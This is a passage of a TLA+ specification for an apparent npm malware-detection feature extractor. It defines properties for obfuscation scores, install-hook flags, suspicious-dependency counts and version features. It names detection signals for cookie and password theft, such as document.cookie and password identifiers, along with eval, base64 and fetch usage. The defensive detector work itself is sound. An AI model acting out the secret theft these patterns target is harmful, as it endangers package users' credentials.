\* it is >= 1, is_rapid_update = 1 exactly when it is >= 2, and without a
\* date directory the sibling-derived features stay 0.
C18_SiblingFlags ==
    (call.fn = "extract_version_analysis_features" /\ ~call.value.raised) =>
        LET date_dir == call.args.date_dir
            directories == {d \in DOMAIN date_dir.entries : date_dir.entries[d]}
            count == Cardinality(directories \ {date_dir.self})
            features == call.value.features
        IN  IF date_dir.exists
            THEN /\ features.time_between_updates = count
                 /\ features.has_other_versions_today = 1 <=> count >= 1
                 /\ features.is_rapid_update = 1 <=> count >= 2
                 /\ features.has_other_versions_today \in {0, 1}
                 /\ features.is_rapid_update \in {0, 1}
            ELSE /\ features.has_other_versions_today = 0
                 /\ features.is_rapid_update = 0
                 /\ features.version_velocity = <<0, 1>>
                 /\ features.maintenance_score = 0
                 /\ features.time_between_updates = 0

\* C18: a date directory with one other directory and a plain file: one
\* sibling, so other versions today and no rapid update.
C18_OneSiblingAndAFile ==
    /\ call.fn = "extract_version_analysis_features"
    /\ ~call.value.raised
    /\ Len(call.args.date_dir.entries) = 3
    /\ Cardinality(sibling_packages(call.args.date_dir)) = 1
    /\ call.value.features.has_other_versions_today = 1
    /\ call.value.features.is_rapid_update = 0

\* C19: for every version value of the descriptor that cannot be parsed as a
\* version, extract_version_analysis_features raises no error and returns
\* the first-version defaults is_first_version = 1 and update_type = 0.
C19_UnparsableVersionDefaults ==
    (/\ call.fn = "extract_version_analysis_features"
     /\ call.args.version.kind # "missing"
     /\ call.args.version.kind = "str" => ~Version(call.args.version.items).ok) =>
        /\ ~call.value.raised
        /\ call.value.features.is_first_version = 1
        /\ call.value.features.update_type = 0

\* C20: for a version that parses, is_first_version = 1 exactly when the
\* version string begins with 1.0.0, and update_type is the one class chosen
\* in the order pre-release (4), patch component > 0 (3), minor component
\* > 0 (2), major component > 0 (1), otherwise 0.
C20_VersionClass ==
    (/\ call.fn = "extract_version_analysis_features"
     /\ call.args.version.kind \in {"missing", "str"}
     /\ Version(VersionStr(call.args.version)).ok) =>
        LET version_str == VersionStr(call.args.version)
            version == Version(version_str)
            classes == {c \in 0..4 :
                          \/ c = 4 /\ version.pre
                          \/ c = 3 /\ version.micro > 0
                          \/ c = 2 /\ version.minor > 0
                          \/ c = 1 /\ version.major > 0
                          \/ c = 0}
            features == call.value.features
        IN  /\ ~call.value.raised
            /\ features.is_first_version = 1 <=> StartsWith(version_str, "1.0.0")
            /\ features.is_first_version \in {0, 1}
            /\ features.update_type \in classes
            /\ \A c \in classes : c <= features.update_type

\* C20: a version with a patch and a minor component above 0 and no
\* pre-release, classed as a patch.
C20_PatchBeforeMinor ==
    /\ call.fn = "extract_version_analysis_features"
    /\ call.args.version = Str("1.2.3")
    /\ call.value.features.update_type = 3
    /\ call.value.features.is_first_version = 0

\* the sum of two fractions
C21_Plus(a, b) == Frac(a[1] * b[2] + b[1] * a[2], a[2] * b[2])

\* C21: minified_ratio, base64_density and eval_density are the totals over
\* the analyzed script files divided by the number of analyzed script files
\* (0 when there is none), minified_ratio lies in [0, 1], and
\* obfuscation_score is
\* min(10 * (0.4 minified_ratio + 0.3 base64_density + 0.3 eval_density), 1).
C21_PerScriptAverages ==
    call.fn = "scan" =>
        LET files == call.args.files
            scripts == {k \in DOMAIN files :
                           /\ Len(read_file(files[k])) > MinContentLen
                           /\ IsScriptFile(BaseName(files[k].path))}
            n == Cardinality(scripts)
            lexical == [k \in scripts |-> SecurityPatterns[read_file(files[k])]]
            base64 == [k \in scripts |-> lexical[k].base64_pattern_count]
            eval == [k \in scripts |-> lexical[k].eval_usage_count]
            average(total) == IF n = 0 THEN <<0, 1>> ELSE Frac(total, n)
            value == call.value
            weighted == C21_Plus(Frac(4 * value.minified_ratio[1],
                                      value.minified_ratio[2]),
                                 C21_Plus(Frac(3 * value.base64_density[1],
                                               value.base64_density[2]),
                                          Frac(3 * value.eval_density[1],
                                               value.eval_density[2])))
        IN  /\ value.minified_ratio =
                  average(Cardinality({k \in scripts :
                                          IsMinified(read_file(files[k]))}))
            /\ value.base64_density = average(SumOver(base64, scripts))
            /\ value.eval_density = average(SumOver(eval, scripts))
            /\ FracLeq(<<0, 1>>, value.minified_ratio)
            /\ FracLeq(value.minified_ratio, <<1, 1>>)
            /\ value.obfuscation_score = FracMin(weighted, <<1, 1>>)

\* the merges of the three partial maps of the sample in the six orders
C22_Merges ==
    LET parts == <<BasicFeatures[sample], AdvancedFeatures[sample],
                   InstallScriptFeatures[sample]>>
    IN  {Merge(Merge(parts[order[1]], parts[order[2]]), parts[order[3]]) :
            order \in {o \in [1..3 -> 1..3] : \A i, j \in 1..3 : o[i] = o[j] => i = j}}

\* C22: the partial maps merged by extract_all_features have pairwise
\* disjoint key sets and the record is the same for every merge order, also
\* when the structural analyzer fell back to its default record.
C22_DisjointPartialMaps ==
    \A i \in DOMAIN records :
        /\ DOMAIN BasicFeatures[sample] \cap DOMAIN AdvancedFeatures[sample] = {}
        /\ DOMAIN BasicFeatures[sample] \cap DOMAIN InstallScriptFeatures[sample] = {}
        /\ DOMAIN AdvancedFeatures[sample] \cap DOMAIN InstallScriptFeatures[sample] = {}
        /\ \A merged \in C22_Merges :
              \A k \in DOMAIN merged : records[i][k] = merged[k]

\* C22 as amended: the key sets are pairwise disjoint and the record is the
\* same for every merge order unless the structural analyzer fell back to
\* its default record; the default record has the keys of the other two
\* maps as well, and the record then has the values of the advanced and the
\* install-script map, which are merged after it.
C22_DisjointUnlessFallback ==
    \A i \in DOMAIN records :
        LET basic == BasicFeatures[sample]
            advanced == AdvancedFeatures[sample]
            install == InstallScriptFeatures[sample]
        IN  /\ DOMAIN advanced \cap DOMAIN install = {}
            /\ \A k \in DOMAIN advanced : records[i][k] = advanced[k]
            /\ \A k \in DOMAIN install : records[i][k] = install[k]
            /\ \A k \in DOMAIN basic \ (DOMAIN advanced \cup DOMAIN install) :
                  records[i][k] = basic[k]
            /\ IF basic = get_default_features
               THEN DOMAIN advanced \cup DOMAIN install \subseteq DOMAIN basic
               ELSE /\ DOMAIN basic \cap DOMAIN advanced = {}
                    /\ DOMAIN basic \cap DOMAIN install = {}
                    /\ \A merged \in C22_Merges :
                          \A k \in DOMAIN merged : records[i][k] = merged[k]

\* C22: a record of a sample whose structural analyzer fell back to the
\* default record while the other two analyzers found something.
C22_FallbackOverridden ==
    /\ runs > 0
    /\ BasicFeatures[sample] = get_default_features
    /\ records[1].max_entropy > 0
    /\ records[1].has_install_command = 1

\* C23: in every record built from a parsed descriptor,
\* suspicious_dependencies_count <= dependencies_count <=
\* total_dependencies_count; the total is the number of dependencies plus
\* the number of devDependencies, and only the names under dependencies are
\* tested against the suspicious-package list.
C23_DependencyCountsOrdered ==
    \A i \in DOMAIN records :
        LET at == find_package_json(sample.package)
            descriptor == sample.package.files[at].json
            names(field) == IF field.kind = "map" THEN field.items ELSE <<>>
            is_suspicious(name) == \E suspicious \in suspicious_packages :
                                Contains(suspicious, Lower(name))
        IN  (at # 0 /\ sample.package.files[at].readable
                 /\ descriptor.kind = "object") =>
                /\ records[i].suspicious_dependencies_count
                       <= records[i].dependencies_count
                /\ records[i].dependencies_count
                       <= records[i].total_dependencies_count
                /\ BasicFeatures[sample] # get_default_features =>
                      /\ records[i].dependencies_count
                             = Len(names(descriptor.dependencies))
                      /\ records[i].total_dependencies_count
                             = Len(names(descriptor.dependencies))
                                  + Len(names(descriptor.devDependencies))
                      /\ records[i].suspicious_dependencies_count
                             = Cardinality(
                                   {d \in DOMAIN names(descriptor.dependencies) :
                                       is_suspicious(names(descriptor.dependencies)[d])})

\* C23: a record of a descriptor whose suspicious names are all under
\* devDependencies.
C23_SuspiciousDevOnly ==
    /\ runs > 0
    /\ records[1].suspicious_dependencies_count = 0
    /\ records[1].dependencies_count = 1
    /\ records[1].total_dependencies_count = 3

\* C24: in every record, has_preinstall = 1 or has_postinstall = 1 or
\* has_install_script = 1 implies has_install_command = 1, for every shape
\* of the scripts field.
C24_HookFlagsAgree ==
    \A i \in DOMAIN records :
        (\/ records[i].has_preinstall = 1
         \/ records[i].has_postinstall = 1
         \/ records[i].has_install_script = 1) =>
            records[i].has_install_command = 1

\* C25: in every record, is_rapid_update = 1 implies
\* has_other_versions_today = 1, maintenance_score equals
\* has_other_versions_today, time_between_updates equals the sibling count,
\* and version_velocity > 0 exactly when has_other_versions_today = 1.
C25_SiblingFeaturesConsistent ==
    \A i \in DOMAIN records :
        LET count == IF sample.parent.exists THEN sample.parent.siblings ELSE 0
        IN  /\ records[i].is_rapid_update = 1 =>
                  records[i].has_other_versions_today = 1
            /\ records[i].maintenance_score = records[i].has_other_versions_today
            /\ records[i].time_between_updates = count
            /\ records[i].version_velocity # <<0, 1>> <=>
                  records[i].has_other_versions_today = 1

\* C26: the minified_files feature is the number of analyzed files of the
\* sample that meet the minified heuristic, and it is nonzero whenever
\* minified_ratio is nonzero.
C26_MinifiedFilesCounted ==
    call.fn = "scan" =>
        LET files == call.args.files
            minified == {k \in DOMAIN files :
                            /\ Len(read_file(files[k])) > MinContentLen
                            /\ splitlines(read_file(files[k])) < 5
                            /\ Len(read_file(files[k])) > 500}
        IN  /\ call.value.minified_files = Cardinality(minified)
            /\ call.value.minified_ratio # <<0, 1>> => call.value.minified_files # 0

\* C27: for each analyzed script file, password_access and cookie_access
\* grow by the lexical count plus the syntax-tree count of the file and the
\* other twelve lexical categories by the lexical count alone; so the
\* aggregate password_access and cookie_access are at least their lexical
\* counts summed over the analyzed script files.
C27_LexicalPlusTree ==
    call.fn = "scan" =>
        LET files == call.args.files
            scripts == {k \in DOMAIN files :
                           /\ Len(read_file(files[k])) > MinContentLen
                           /\ IsScriptFile(BaseName(files[k].path))}
            nodes(k) == IF call.args.TREE_SITTER_AVAILABLE
                        THEN files[k].tree.nodes ELSE <<>>
            in_tree(k, key) ==
                IF key = "cookie_access"
                THEN Cardinality({n \in DOMAIN nodes(k) :
                                     /\ nodes(k)[n].type = "member_expression"
                                     /\ nodes(k)[n].text = "document.cookie"})
                ELSE IF key = "password_access"
                THEN Cardinality({n \in DOMAIN nodes(k) :
                                     /\ nodes(k)[n].type = "property_identifier"
                                     /\ \/ Contains("password", Lower(nodes(k)[n].text))
                                        \/ Contains("passwd", Lower(nodes(k)[n].text))})
                ELSE 0
            lexical(key) == [k \in scripts |-> SecurityPatterns[read_file(files[k])][key]]
            tree(key) == [k \in scripts |-> in_tree(k, key)]
        IN  \A key \in DOMAIN SecurityRegexes :
                IF scripts = {} THEN key \notin DOMAIN call.value
                ELSE /\ call.value[key] = SumOver(lexical(key), scripts)
                                             + SumOver(tree(key), scripts)
                     /\ call.value[key] >= SumOver(lexical(key), scripts)

\* C27: a scan with the syntax tree available that counts document.cookie
\* in the text and in the tree of a script, and fetch( in the text only.
C27_CookieCountedTwice ==
    /\ call.fn = "scan"
    /\ call.args.TREE_SITTER_AVAILABLE
    /\ Len(call.args.files) = 1
    /\ "cookie_access" \in DOMAIN call.value
    /\ call.value.cookie_access = 2
    /\ call.value.fetch_count = 1

\* C28: a file contributes to the entropy statistics and to the lexical and
\* syntax counts only if its content is longer than 100 characters: the
\* result is that of the files longer than that, and a sample whose files all
\* have at most 100 characters has max_entropy = avg_entropy = 0,
\* obfuscation_score = 0 and no lexical count above 0.
C28_ShortFilesIgnored ==
    call.fn = "scan" =>
        LET files == call.args.files
            long == SelectSeq(files, LAMBDA file : Len(read_file(file)) > 100)
        IN  /\ call.value =
                  extract_advanced_features([files |-> long],
                                            call.args.TREE_SITTER_AVAILABLE)
            /\ long = <<>> =>
                  /\ call.value.max_entropy = 0
                  /\ call.value.avg_entropy = 0
                  /\ call.value.obfuscation_score = <<0, 1>>
                  /\ \A key \in DOMAIN SecurityRegexes :
                        key \in DOMAIN call.value => call.value[key] = 0

\* C28: a scan of a script of at most 100 characters that holds eval( and
\* document.cookie.
C28_ShortScriptWithPatterns ==
    /\ call.fn = "scan"
    /\ call.args.files = <<ShortJs>>
    /\ SecurityPatterns[ShortJs.content].eval_usage_count > 0
    /\ call.value.max_entropy = 0

\* C29: in the benign collector the set of processed strings read back from
\* the log of the day is exactly the set of name@version strings written by
\* write_to_log, and no name@version is handed to npm pack twice on one day
C29_LoggedNeverDownloadedAgain ==
    /\ processed_packages(daily_log) = BagToSet(attempts)
    /\ \A k \in DOMAIN PackageVersions : CopiesIn(PackageVersions[k], attempts) <= 1

\* C30: get_popular_packages terminates for every sequence of registry
\* responses, also when the registry keeps answering 429, and returns at most
\* 2 * max_packages entries
C30_AlwaysTerminates ==
    <>(search = "returned" /\ all_packages <= 2 * max_packages)

\* C30 (amended): get_popular_packages returns at most 2 * max_packages
\* entries unless the registry answers 429 again and again without end
C30_TerminatesUnlessRateLimitedForever ==
    ([]<>(search = "rate_limited"))
    \/ <>(search = "returned" /\ all_packages <= 2 * max_packages)

\* get_popular_packages returned the slice of a longer list after a retry
C30_ReturnedAfterRateLimit ==
    /\ search = "returned"
    /\ RateLimitMessage \in printed
    /\ all_packages = 2 * max_packages
    /\ current_from_index > PACKAGES_PER_PAGE

====
